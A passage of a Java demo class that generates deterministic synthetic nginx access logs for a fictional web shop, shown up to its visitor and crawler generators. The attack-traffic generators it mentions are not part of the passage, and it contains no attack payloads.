package io.vigil.demo;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.Comparator;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.SplittableRandom;

/**
 * A deterministic day of nginx access-log traffic for a small web shop with a blog
 * ({@code https://shop.example.com}), with attacks mixed into the ordinary visitors.
 *
 * <p>Contract of {@link #generate}: lines in nginx's {@code combined} log format, one request each,
 * with times in UTC ({@code +0000}) at whole seconds inside {@code [now - 24h, now)}, in ascending
 * time order; between 30,000 and 50,000 of them. The same {@code now} and {@code seed} always give
 * the same lines, on any JVM. Quotes, backslashes and bytes outside printable ASCII inside quoted
 * fields are written as {@code \xHH}, as nginx's default log escaping does.
 *
 * <p>What is in it: a few hundred visitors from consumer ISP space browsing with real browsers
 * (more by day than by night), search-engine crawlers, an uptime monitor, an internal health probe
 * from {@code 10.x}, and from addresses no visitor uses: vulnerability scanners (Nikto, sqlmap,
 * Nuclei, masscan, zgrab), background exploit bots, path traversal, SQL injection, XSS, Log4Shell
 * probes, bursts of failed logins (form and HTTP basic auth), a credential-stuffing wave from many
 * addresses and one slow brute force that ends in a successful login.
 */
public final class DemoTraffic {
    private static final Duration LENGTH = Duration.ofHours(24);

    private DemoTraffic() {}

    /**
     * A generated day: the log lines and the addresses the attacks came from.
     *
     * @param attackers every scanner, exploit bot and brute-forcer address, in the order handed out,
     *     with what it was used for: {@code scanner} (hosting space) or {@code proxy} (credential stuffing)
     */
    public record Day24(List<String> lines, Map<String, String> attackers) {}

    /** Lines in nginx "combined" format covering [now - 24h, now), in chronological order. */
    public static List<String> generate(Instant now, long seed) {
        return day(now, seed).lines();
    }

    /** The lines of {@link #generate} and the attackers' addresses. */
    public static Day24 day(Instant now, long seed) {
        Objects.requireNonNull(now, "now");
        Day day = Day.before(now);
        SplittableRandom root = new SplittableRandom(seed);
        Addresses addresses = new Addresses(root.split());
        Sink sink = new Sink(day);
        // Each source draws from its own split stream, so tuning one leaves the others' lines alone.
        new Visitors(day, root.split(), addresses).emit(sink);
        new Robots(day, root.split()).emit(sink);
        new Scans(day, root.split(), addresses).emit(sink);
        new Logins(day, root.split(), addresses).emit(sink);
        return new Day24(sink.lines(), Collections.unmodifiableMap(addresses.attackers));
    }

    // ---------------------------------------------------------------- time

    /** The whole seconds a line may carry: at or after {@code now - 24h}, before {@code now}. */
    record Day(long first, long end) {
        // Hour of day (UTC) when a shop selling to Europe and North America is busiest.
        private static final double PEAK_HOUR = 15.0;

        static Day before(Instant now) {
            // Rounding up keeps a truncated log time from falling before the start or on now itself.
            return new Day(ceilSecond(now.minus(LENGTH)), ceilSecond(now));
        }

        private static long ceilSecond(Instant t) {
            return t.getEpochSecond() + (t.getNano() > 0 ? 1 : 0);
        }

        long length() {
            return end - first;
        }

        boolean contains(long second) {
            return second >= first && second < end;
        }

        long anytime(SplittableRandom r) {
            return first + r.nextLong(length());
        }

        /** A second drawn in proportion to human activity, so that visitors follow the sun. */
        long busyTime(SplittableRandom r) {
            while (true) {
                long s = anytime(r);
                if (r.nextDouble() < load(s)) {
                    return s;
                }
            }
        }

        /** The start of a span that fits in the day. */
        long startOf(SplittableRandom r, long span) {
            return first + r.nextLong(Math.max(1, length() - span));
        }

        /** The start of a span inside slot {@code slot} of {@code slots} equal parts of the day. */
        long startInSlot(SplittableRandom r, int slot, int slots, long span) {
            long width = length() / slots;
            return first + slot * width + r.nextLong(Math.max(1, width - span));
        }

        /** Relative traffic at a second: 1 at the daily peak, about a seventh of that at night. */
        static double load(long second) {
            double hour = Math.floorMod(second, 86_400L) / 3600.0;
            double phase = (1 + StrictMath.cos(2 * Math.PI * (hour - PEAK_HOUR) / 24)) / 2;
            return 0.14 + 0.86 * phase * phase;
        }
    }

    /** Exponentially distributed; StrictMath so that every JVM draws the same numbers. */
    static double exponential(SplittableRandom r, double mean) {
        return -mean * StrictMath.log(1 - r.nextDouble());
    }

    static String pick(SplittableRandom r, String[] values) {
        return values[r.nextInt(values.length)];
    }

    static String pick(SplittableRandom r, List<String> values) {
        return values.get(r.nextInt(values.size()));
    }

    static String letters(SplittableRandom r, int n) {
        String alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
        StringBuilder b = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            b.append(alphabet.charAt(r.nextInt(alphabet.length())));
        }
        return b.toString();
    }

    // ---------------------------------------------------------------- lines

    /**
     * One request as nginx logs it. Strings hold bytes as chars 0-255, which is how a request line
     * with binary in it (a TLS handshake sent to port 80) arrives.
     */
    record Hit(long second, String client, String user, String request, int status, long bytes,
               String referrer, String agent) {
        private static final String[] MONTHS = {
            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"
        };

        String line() {
            StringBuilder b = new StringBuilder(160 + request.length());
            b.append(client).append(" - ").append(orDash(user)).append(" [");
            appendTime(b, second);
            b.append("] \"").append(escape(request)).append("\" ").append(status).append(' ').append(bytes)
                    .append(" \"").append(orDash(referrer)).append("\" \"").append(orDash(agent)).append('"');
            return b.toString();
        }

        private static String orDash(String value) {
            return value == null ? "-" : escape(value);
        }

        /** {@code 28/Nov/2026:13:55:36 +0000}; English months whatever the default locale. */
        private static void appendTime(StringBuilder b, long second) {
            LocalDateTime t = LocalDateTime.ofEpochSecond(second, 0, ZoneOffset.UTC);
            two(b, t.getDayOfMonth()).append('/').append(MONTHS[t.getMonthValue() - 1]).append('/')
                    .append(t.getYear()).append(':');
            two(b, t.getHour()).append(':');
            two(b, t.getMinute()).append(':');
            two(b, t.getSecond()).append(" +0000");
        }

        private static StringBuilder two(StringBuilder b, int value) {
            return b.append((char) ('0' + value / 10)).append((char) ('0' + value % 10));
        }

        /** nginx's default escaping: quote, backslash and non-printable bytes become {@code \xHH}. */
        static String escape(String s) {
            StringBuilder b = null;
            for (int i = 0; i < s.length(); i++) {
                char c = s.charAt(i);
                boolean plain = c >= 0x20 && c <= 0x7e && c != '"' && c != '\\';
                if (!plain && b == null) {
                    b = new StringBuilder(s.length() + 16).append(s, 0, i);
                }
                if (b != null) {
                    appendEscaped(b, c, plain);
                }
            }
            return b == null ? s : b.toString();
        }

        private static void appendEscaped(StringBuilder b, char c, boolean plain) {
            if (plain) {
                b.append(c);
                return;
            }
            String hex = "0123456789ABCDEF";
            b.append("\\x").append(hex.charAt((c >> 4) & 0xF)).append(hex.charAt(c & 0xF));
        }
    }

    /** Collects hits, drops what falls outside the day and orders the rest by time. */
    static final class Sink {
        private final Day day;
        private final List<Hit> hits = new ArrayList<>(48_000);

        Sink(Day day) {
            this.day = day;
        }

        void add(Hit hit) {
            // A session that starts late may run past now; the log simply has not seen it yet.
            if (day.contains(hit.second())) {
                hits.add(hit);
            }
        }

        List<String> lines() {
            // List.sort is stable: within a second, a page stays ahead of the assets it pulled in.
            hits.sort(Comparator.comparingLong(Hit::second));
            List<String> lines = new ArrayList<>(hits.size());
            for (Hit hit : hits) {
                lines.add(hit.line());
            }
            return Collections.unmodifiableList(lines);
        }
    }

    /** One client as nginx sees it: an address, a user agent and the protocol it speaks. */
    record Actor(String ip, String agent, String protocol) {
        Hit hit(long t, String method, String target, int status, long bytes, String referrer) {
            return new Hit(t, ip, null, method + ' ' + target + ' ' + protocol, status, bytes, referrer, agent);
        }

        Hit hit(long t, String method, String target, Response response, String referrer) {
            return hit(t, method, target, response.status(), response.bytes(), referrer);
        }
    }

    record Response(int status, long bytes) {}

    // ---------------------------------------------------------------- addresses

    /**
     * Hands out addresses from disjoint pools, so that no attacker shares an address with a visitor
     * and a detection that flags a visitor's address is plainly a false positive.
     */
    static final class Addresses {
        // First octets of consumer ISP space (cable, DSL, fibre, mobile) in Europe and North America.
        private static final int[] HOMES = {
            2, 24, 67, 68, 70, 71, 73, 75, 76, 81, 82, 84, 86, 88, 89, 90, 92, 93, 95, 98, 99, 108, 174,
            176, 178, 188, 212, 213, 217
        };
        // Consumer IPv6 prefixes (Orange FR, Sky UK, AT&T, Comcast, Deutsche Telekom).
        private static final String[] HOMES_V6 = {"2a01:cb1d:", "2a02:c7c:", "2600:1700:", "2601:600:", "2003:e6:"};
        // Hosting and VPS space, where scanners and exploit bots usually run.
        private static final int[] HOSTING = {
            45, 46, 80, 91, 103, 104, 139, 141, 143, 146, 159, 161, 162, 164, 165, 167, 185, 193, 194, 195, 209
        };
        // Residential-proxy space in Latin America, Africa and Asia that credential stuffers rent.
        private static final int[] PROXIES = {
            36, 37, 39, 41, 42, 43, 49, 110, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123,
            124, 125, 177, 179, 181, 186, 187, 189, 190, 191, 200, 201
        };

        private final SplittableRandom r;
        private final Set<String> used = new HashSet<>();
        private final Map<String, String> attackers = new LinkedHashMap<>();

        Addresses(SplittableRandom r) {
            this.r = r;
        }

        String home() {
            return fresh(HOMES);
        }

        String hosting() {
            String ip = fresh(HOSTING);
            attackers.put(ip, "scanner");
            return ip;
        }

        String proxy() {
            String ip = fresh(PROXIES);
            attackers.put(ip, "proxy");
            return ip;
        }

        String homeV6() {
            while (true) {
                String prefix = pick(r, HOMES_V6);
                StringBuilder b = new StringBuilder(prefix);
                int groups = 8 - (int) prefix.chars().filter(c -> c == ':').count();
                for (int i = 0; i < groups; i++) {
                    // Non-zero groups, so the textual form needs no "::" compression.
                    b.append(i == 0 ? "" : ":").append(Integer.toHexString(r.nextInt(1, 0x10000)));
                }
                if (used.add(b.toString())) {
                    return b.toString();
                }
            }
        }

        private String fresh(int[] firstOctets) {
            while (true) {
                String ip = firstOctets[r.nextInt(firstOctets.length)] + "." + r.nextInt(256) + "."
                        + r.nextInt(256) + "." + r.nextInt(1, 255);
                if (used.add(ip)) {
                    return ip;
                }
            }
        }
    }

    // ---------------------------------------------------------------- the shop

    /** What the shop serves, so that visitors, crawlers and attackers agree on what answers 200. */
    static final class Site {
        static final String ORIGIN = "https://shop.example.com";
        static final String CSS = "/static/css/main.4f2a91c3.css";
        static final String FONT = "/static/fonts/inter-var.latin.woff2";
        static final List<String> LAYOUT = List.of(CSS, "/static/js/runtime.7d1c0e52.js",
                "/static/js/vendor.b83f2a17.js", "/static/js/app.e19c4d08.js", FONT, "/static/img/logo.svg",
                "/favicon.ico");
        static final String[][] CATALOG = {
            {"mugs", "speckled-stoneware-mug", "enamel-camp-mug", "espresso-cup-set", "travel-tumbler"},
            {"prints", "mountain-dawn-print", "city-lines-poster", "botanical-set-of-3", "vintage-map-print"},
            {"apparel", "logo-tee-black", "organic-cotton-tee", "ringer-tee", "knit-beanie"},
            {"stationery", "dot-grid-notebook", "brass-pen", "sticker-pack-v2", "weekly-planner-2027"},
            {"bags", "canvas-tote", "waxed-backpack", "market-bag"}
        };
        static final List<String> PRODUCTS = products();
        static final String[] POSTS = {
            "how-we-glaze-our-mugs", "behind-the-scenes-print-studio", "gift-guide-2026", "caring-for-stoneware",
            "our-packaging-is-now-plastic-free", "meet-the-illustrator", "notebook-paper-weights-explained",
            "shipping-update-december"
        };
        static final String[] RETIRED = {"holiday-mug-2024", "summer-tee-2025", "weekly-planner-2025"};
        static final String[] QUERIES = {"mug", "tote+bag", "gift+ideas", "notebook", "poster", "black+tee", "planner"};
        static final String[] INFO = {"/about", "/contact", "/shipping", "/faq"};

        // nginx's built-in error pages with server_tokens off; their size depends on the status text.
        static final Response NGINX_301 = new Response(301, 162);
        static final Response NGINX_400 = new Response(400, 150);
        static final Response NGINX_401 = new Response(401, 172);
        static final Response NGINX_403 = new Response(403, 146);
        static final Response NGINX_404 = new Response(404, 146);
        // The shop's own pages for errors and failed sign-ins.
        static final Response APP_404 = new Response(404, 4_213);
        static final Response APP_500 = new Response(500, 1_987);
        static final Response LOGIN_FAILED = new Response(401, 5_184);
        static final Response LOCKED = new Response(403, 5_061);
        static final Response REDIRECT = new Response(302, 0);

        private Site() {}

        private static List<String> products() {
            List<String> all = new ArrayList<>();
            for (String[] category : CATALOG) {
                all.addAll(List.of(category).subList(1, category.length));
            }
            return List.copyOf(all);
        }

        static String product(SplittableRandom r) {
            return "/products/" + pick(r, PRODUCTS);
        }

        static String category(SplittableRandom r) {
            return "/products?category=" + CATALOG[r.nextInt(CATALOG.length)][0];
        }

        static String post(SplittableRandom r) {
            return "/blog/" + pick(r, POSTS);
        }

        /** A size that is the same every time the same path is served, as for a static file. */
        static long stable(String path, int low, int high) {
            return low + Math.floorMod(path.hashCode(), high - low);
        }

        /** Rendered HTML (gzip-compressed, as nginx counts it) varies a little with cart and tokens. */
        static long pageSize(String path, SplittableRandom r) {
            long jitter = r.nextInt(0, 64);
            if (path.equals("/")) {
                return stable(path, 9_100, 10_400) + jitter;
            }
            if (path.startsWith("/products/")) {
                return stable(path, 6_800, 8_900) + jitter;
            }
            if (path.startsWith("/products?") || path.startsWith("/search?")) {
                return stable(path, 5_600, 11_000) + jitter;
            }
            if (path.startsWith("/blog/")) {
                return stable(path, 11_000, 17_000) + jitter;
            }
            return stable(path, 3_900, 7_400) + jitter;
        }

        static long assetSize(String asset) {
            if (asset.endsWith("-800.webp")) {
                return stable(asset, 38_000, 142_000);
            }
            if (asset.endsWith("-320.webp") || asset.endsWith("-thumb.jpg")) {
                return stable(asset, 6_000, 26_000);
            }
            if (asset.endsWith(".jpg")) {
                return stable(asset, 88_000, 264_000);
            }
            return stable(asset, 1_200, 60_000);
        }

        /** The images and scripts a browser fetches after the HTML; layout first, as browsers do. */
        static List<String> assetsOf(String path) {
            List<String> assets = new ArrayList<>(LAYOUT);
            if (path.startsWith("/products/")) {
                String slug = path.substring("/products/".length());
                assets.add(image(slug, 800));
                assets.addAll(thumbnails(PRODUCTS.indexOf(slug) + 1, 3));
            } else if (path.equals("/") || path.startsWith("/products?") || path.startsWith("/search?")) {
                assets.addAll(thumbnails(path.hashCode(), 4));
            } else if (path.startsWith("/blog/")) {
                assets.add("/images/blog/" + path.substring("/blog/".length()) + "-hero.jpg");
            } else if (path.equals("/blog")) {
                for (int i = 0; i < 4; i++) {
                    assets.add("/images/blog/" + POSTS[i] + "-thumb.jpg");
                }
            }
            return assets;
        }

        private static List<String> thumbnails(int from, int count) {
            List<String> thumbs = new ArrayList<>(count);
            for (int i = 0; i < count; i++) {
                thumbs.add(image(PRODUCTS.get(Math.floorMod(from + i, PRODUCTS.size())), 320));
            }
            return thumbs;
        }

        static String image(String slug, int width) {
            return "/images/products/" + slug + "-" + width + ".webp";
        }

        /**
         * How the shop's nginx answers a request for something that is not part of the shop:
         * URIs that climb above the root are rejected, dotfiles and the status page are denied,
         * PHP and CGI do not exist, and everything else falls through to the shop's 404 page.
         */
        static Response probe(String target) {
            int q = target.indexOf('?');
            String path = (q < 0 ? target : target.substring(0, q)).toLowerCase(Locale.ROOT);
            if (escapesRoot(path)) {
                return NGINX_400;
            }
            if (path.contains("/.") && !path.startsWith("/.well-known/")
                    || path.equals("/server-status") || path.equals("/server-info")) {
                return NGINX_403;
            }
            if (path.endsWith(".php") || path.startsWith("/cgi-bin/") || path.startsWith("/static/")) {
                return NGINX_404;
            }
            if (path.equals("/")) {
                return new Response(200, stable("/", 9_100, 10_400));
            }
            if (path.equals("/robots.txt")) {
                return new Response(200, 412);
            }
            return path.equals("/sitemap.xml") ? new Response(200, 6_820) : APP_404;
        }

        /** nginx decodes {@code %2e} and {@code %2f} before normalising, then refuses to climb above root. */
        static boolean escapesRoot(String path) {
            String decoded = path.replace("%2e", ".").replace("%2f", "/");
            int depth = 0;
            for (String segment : decoded.split("/")) {
                if (segment.equals("..")) {
                    depth--;
                    if (depth < 0) {
                        return true;
                    }
                } else if (!segment.isEmpty() && !segment.equals(".")) {
                    depth++;
                }
            }
            return false;
        }
    }

    // ---------------------------------------------------------------- visitors

    /** Browsers by rough share of a consumer shop's traffic; versions span the last few releases. */
    enum Browser {
        CHROME_WINDOWS(24, 140, 143, false,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"),
        CHROME_MAC(9, 140, 143, false,
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"),
        EDGE_WINDOWS(7, 140, 143, false,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0"),
        FIREFOX_WINDOWS(5, 143, 145, false,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"),
        FIREFOX_LINUX(2, 143, 145, false,
                "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"),
        SAFARI_MAC(7, 0, 1, true,
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.{v} Safari/605.1.15"),
        SAFARI_IPHONE(22, 0, 1, true,
                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.{v} Mobile/15E148 Safari/604.1"),
        SAFARI_IPAD(3, 0, 1, true,
                "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.{v} Mobile/15E148 Safari/604.1"),
        CHROME_ANDROID(15, 140, 143, false,
                "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"),
        SAMSUNG_ANDROID(4, 28, 29, false,
                "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{v}.0 Chrome/130.0.0.0 Mobile Safari/537.36"),
        CHROME_IPHONE(2, 140, 143, true,
                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/{v}.0.7499.92 Mobile/15E148 Safari/604.1");

        private final int weight;
        private final int oldest;
        private final int newest;
        private final boolean apple;
        private final String template;

        Browser(int weight, int oldest, int newest, boolean apple, String template) {
            this.weight = weight;
            this.oldest = oldest;
            this.newest = newest;
            this.apple = apple;
            this.template = template;
        }

        static Browser pick(SplittableRandom r) {
            int total = 0;
            for (Browser b : values()) {
                total += b.weight;
            }
            int x = r.nextInt(total);
            for (Browser b : values()) {
                x -= b.weight;
                if (x < 0) {
                    return b;
                }
            }
            throw new AssertionError("weights add up");
        }

        String agent(SplittableRandom r) {
            return template.replace("{v}", Integer.toString(r.nextInt(oldest, newest + 1)));
        }
    }

    /** A person on one device; the cache is why second visits fetch far fewer assets. */
    static final class Visitor {
        final Actor actor;
        final boolean apple;
        final Set<String> cache = new HashSet<>();

        Visitor(Actor actor, boolean apple) {
            this.actor = actor;
            this.apple = apple;
        }
    }

    record Session(long start, Visitor visitor) {}

    /** Where a visitor goes next (null: they leave) and the second they get there. */
    record Step(String path, long at) {}

    /** Shoppers and readers: sessions that land, browse, load assets, add to cart and check out. */
    static final class Visitors {
        private static final int PEOPLE = 600;
        private static final int SESSIONS = 2_700;
        private static final String[] REFERRERS = {
            "https://www.google.com/", "https://www.google.com/", "https://www.google.com/",
            "https://www.google.com/", "https://www.google.co.uk/", "https://www.google.de/",
            "https://www.bing.com/", "https://duckduckgo.com/", "https://www.reddit.com/",
            "https://news.ycombinator.com/", "https://l.facebook.com/", "https://www.instagram.com/",
            "https://www.pinterest.com/", "https://t.co/", "android-app://com.google.android.gm/"
        };

        private final Day day;
        private final SplittableRandom r;
        private final List<Visitor> people = new ArrayList<>(PEOPLE);

        Visitors(Day day, SplittableRandom r, Addresses addresses) {
            this.day = day;
            this.r = r;
            for (int i = 0; i < PEOPLE; i++) {
                people.add(newVisitor(addresses));
            }
        }

        private Visitor newVisitor(Addresses addresses) {
            Browser browser = Browser.pick(r);
            String ip = r.nextInt(100) < 8 ? addresses.homeV6() : addresses.home();
            String protocol = r.nextInt(100) < 85 ? "HTTP/2.0" : "HTTP/1.1";
            return new Visitor(new Actor(ip, browser.agent(r), protocol), browser.apple);
        }

        void emit(Sink sink) {
            List<Session> sessions = new ArrayList<>(SESSIONS);
            for (Visitor v : people) {
                sessions.add(new Session(day.busyTime(r), v));
            }
            for (int i = people.size(); i < SESSIONS; i++) {
                // The power skews towards the first people: regulars come back several times a day.
                double u = StrictMath.pow(r.nextDouble(), 1.25);
                sessions.add(new Session(day.busyTime(r), people.get((int) (u * people.size()))));
            }
            // In time order, so a browser cache fills before it answers 304s, never the other way round.
            sessions.sort(Comparator.comparingLong(Session::start));
            for (Session s : sessions) {
                visit(s.visitor(), s.start(), sink);
            }
        }

        private void visit(Visitor v, long start, Sink sink) {
            String referrer = externalReferrer();
            String path = arrive(v, referrer, start, sink);
            long t = start;
            int views = 1 + (int) exponential(r, 3.0);
            for (int i = 0; i < views && path != null; i++) {
                t = show(v, path, referrer, t, sink);
                referrer = Site.ORIGIN + path;
                Step step = act(v, path, referrer, t + 4 + (long) exponential(r, 35), sink);
                path = step.path();
                t = step.at();
            }
        }

        private String externalReferrer() {
            if (r.nextInt(100) < 35) {
                return null; // typed, bookmarked, or the referrer was stripped
            }
            String referrer = pick(r, REFERRERS);
            return referrer.equals("https://t.co/") ? referrer + letters(r, 10) : referrer;
        }

        /** The first page, after any redirect; null when the visitor bounces off a dead link. */
        private String arrive(Visitor v, String referrer, long t, Sink sink) {
            double x = r.nextDouble();
            if (x < 0.03) {
                // Old links from before the catalogue moved under /products.
                String slug = pick(r, Site.PRODUCTS);
                sink.add(v.actor.hit(t, "GET", "/shop/" + slug, Site.NGINX_301, referrer));
                return "/products/" + slug;
            }
            if (x < 0.045) {
                // Search engines still list last season's products.
                String dead = "/products/" + pick(r, Site.RETIRED);
                sink.add(v.actor.hit(t, "GET", dead, Site.APP_404, referrer));
                return null;
            }
            return x < 0.33 ? "/" : x < 0.63 ? Site.product(r) : x < 0.81 ? Site.post(r)
                    : x < 0.89 ? Site.category(r) : x < 0.93 ? "/blog"
                    : x < 0.97 ? pick(r, Site.INFO) : "/login";
        }

        /** The page, then what the browser pulls in for it; answers when the visitor has seen it. */
        private long show(Visitor v, String path, String referrer, long t, Sink sink) {
            sink.add(v.actor.hit(t, "GET", path, 200, Site.pageSize(path, r), referrer));
            String self = Site.ORIGIN + path;
            long at = t;
            for (String asset : Site.assetsOf(path)) {
                at += r.nextInt(2);
                fetch(v, asset, asset.equals(Site.FONT) ? Site.ORIGIN + Site.CSS : self, at, sink);
            }
            if (v.apple && v.cache.add("/apple-touch-icon.png")) {
                // Safari asks for home-screen icons once; only one of the two names exists.
                sink.add(v.actor.hit(at, "GET", "/apple-touch-icon-precomposed.png", Site.NGINX_404, null));
                sink.add(v.actor.hit(at, "GET", "/apple-touch-icon.png", 200, 7_236, null));
            }
            if (r.nextInt(100) < 60) {
                // The cart badge in the header refreshes itself.
                at += 1;
                sink.add(v.actor.hit(at, "GET", "/api/cart", 200, 84 + r.nextInt(320), self));
            }
            return at;
        }

        private void fetch(Visitor v, String asset, String referrer, long t, Sink sink) {
            if (v.cache.add(asset)) {
                sink.add(v.actor.hit(t, "GET", asset, 200, Site.assetSize(asset), referrer));
            } else if (r.nextInt(100) < 5) {
                // A reload revalidates what the cache holds.
                sink.add(v.actor.hit(t, "GET", asset, 304, 0, referrer));
            }
        }

        /** What the visitor does on a page (post a form, add to cart), then where and when they go next. */
        private Step act(Visitor v, String path, String referrer, long t, Sink sink) {
            if (path.equals("/login")) {
                return signIn(v, referrer, t, sink);
            }
            if (path.equals("/checkout")) {
                return checkOut(v, referrer, t, sink);
            }
            if (path.equals("/checkout/complete")) {
                return new Step(null, t);
            }
            if (path.equals("/contact") && r.nextInt(100) < 25) {
                sink.add(v.actor.hit(t, "POST", "/contact", 302, 0, referrer));
                return new Step("/contact?sent=1", t);
            }
            if (path.startsWith("/products/") && r.nextInt(100) < 18) {
                sink.add(v.actor.hit(t, "POST", "/api/cart", 200, 96 + r.nextInt(300), referrer));
                return new Step("/cart", t);
            }
            return new Step(next(path), t);
        }

        private Step signIn(Visitor v, String referrer, long t, Sink sink) {
            if (r.nextInt(100) < 10) {
                // A mistyped password now and then is normal and must not look like an attack.
                sink.add(v.actor.hit(t, "POST", "/login", Site.LOGIN_FAILED, referrer));
                t += 6 + r.nextInt(20);
            }
            sink.add(v.actor.hit(t, "POST", "/login", Site.REDIRECT, referrer));
            return new Step("/account", t);
        }

        private Step checkOut(Visitor v, String referrer, long t, Sink sink) {
            if (r.nextInt(100) < 3) {
                // The payment provider times out once in a while; the shopper tries again.
                sink.add(v.actor.hit(t, "POST", "/checkout", Site.APP_500, referrer));
                t += 20 + r.nextInt(40);
            }
            sink.add(v.actor.hit(t, "POST", "/checkout", Site.REDIRECT, referrer));
            return new Step("/checkout/complete", t);
        }

        private String next(String path) {
            int x = r.nextInt(100);
            if (path.equals("/cart")) {
                return x < 40 ? "/checkout" : Site.product(r);
            }
            if (path.startsWith("/account")) {
                return x < 50 && !path.equals("/account/orders") ? "/account/orders" : Site.product(r);
            }
            if (path.startsWith("/products/")) {
                return x < 55 ? Site.product(r) : x < 80 ? Site.category(r) : "/";
            }
            if (path.startsWith("/blog/")) {
                return x < 40 ? "/blog" : x < 70 ? Site.post(r) : Site.product(r);
            }
            if (path.equals("/blog")) {
                return Site.post(r);
            }
            return x < 55 ? Site.product(r) : x < 70 ? Site.category(r) : x < 80 ? "/blog"
                    : x < 90 ? "/search?q=" + pick(r, Site.QUERIES) : pick(r, Site.INFO);
        }
    }

    // ---------------------------------------------------------------- robots

    /** Crawlers and monitors: steady, not diurnal, and from the operators' published ranges. */
    static final class Robots {
        private static final String GOOGLEBOT =
                "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
                        + "Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
        private static final String GOOGLEBOT_DESKTOP = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
        private static final String GOOGLEBOT_IMAGE = "Googlebot-Image/1.0";
        private static final String BINGBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
                + "bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36";
        private static final String AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)";
        private static final String UPTIME = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)";
        private static final String PROBE = "Blackbox Exporter/0.25.0";

        private final Day day;
        private final SplittableRandom r;

        Robots(Day day, SplittableRandom r) {
            this.day = day;
            this.r = r;
        }

        void emit(Sink sink) {
            crawl(new String[] {"66.249.66.", "66.249.68.", "66.249.79."}, GOOGLEBOT, 1_100, sink);
            crawl(new String[] {"40.77.167.", "157.55.39.", "207.46.13."}, BINGBOT, 550, sink);
            crawl(new String[] {"54.36.148.", "54.36.149."}, AHREFS, 220, sink);
            every(300, new Actor("69.162.124." + r.nextInt(224, 240), UPTIME, "HTTP/1.1"), "HEAD", "/", 0, sink);
            // The only private addresses in the log: the internal health probe, not an internet client.
            every(300, new Actor("10.20.0.14", PROBE, "HTTP/1.1"), "GET", "/health", 15, sink);
        }

        private void crawl(String[] ranges, String agent, int hits, Sink sink) {
            List<Actor> crawlers = new ArrayList<>();
            for (String range : ranges) {
                crawlers.add(new Actor(range + r.nextInt(1, 255), agent, "HTTP/1.1"));
            }
            for (int i = 0; i < hits; i++) {
                Actor crawler = crawlers.get(r.nextInt(crawlers.size()));
                if (agent.equals(GOOGLEBOT) && r.nextInt(100) < 20) {
                    // Google fetches images and desktop renderings from the same addresses.
                    crawler = new Actor(crawler.ip(), r.nextBoolean() ? GOOGLEBOT_IMAGE : GOOGLEBOT_DESKTOP, "HTTP/1.1");
                }
                crawlOne(crawler, day.anytime(r), sink);
            }
        }

        private void crawlOne(Actor crawler, long t, Sink sink) {
            if (crawler.agent().equals(GOOGLEBOT_IMAGE)) {
                String image = Site.image(pick(r, Site.PRODUCTS), 800);
                sink.add(crawler.hit(t, "GET", image, 200, Site.assetSize(image), null));
                return;
            }
            int x = r.nextInt(100);
            if (x < 4) {
                sink.add(crawler.hit(t, "GET", "/robots.txt", 200, 412, null));
            } else if (x < 7) {
                sink.add(crawler.hit(t, "GET", "/sitemap.xml", 200, 6_820, null));
            } else if (x < 10) {
                sink.add(crawler.hit(t, "GET", "/shop/" + pick(r, Site.PRODUCTS), Site.NGINX_301, null));
            } else if (x < 13) {
                sink.add(crawler.hit(t, "GET", "/products/" + pick(r, Site.RETIRED), Site.APP_404, null));
            } else {
                String page = x < 50 ? Site.product(r) : x < 75 ? Site.post(r) : x < 90 ? Site.category(r) : "/";
                // Crawlers revalidate with If-Modified-Since; unchanged pages answer 304.
                boolean unchanged = r.nextInt(100) < 25;
                sink.add(crawler.hit(t, "GET", page, unchanged ? 304 : 200, unchanged ? 0 : Site.pageSize(page, r), null));
            }
        }

        private void every(int seconds, Actor monitor, String method, String path, long bytes, Sink sink) {
            for (long t = day.first() + r.nextInt(seconds); t < day.end(); t += seconds) {
                sink.add(monitor.hit(t, method, path, 200, bytes, null));
            }
        }
    }

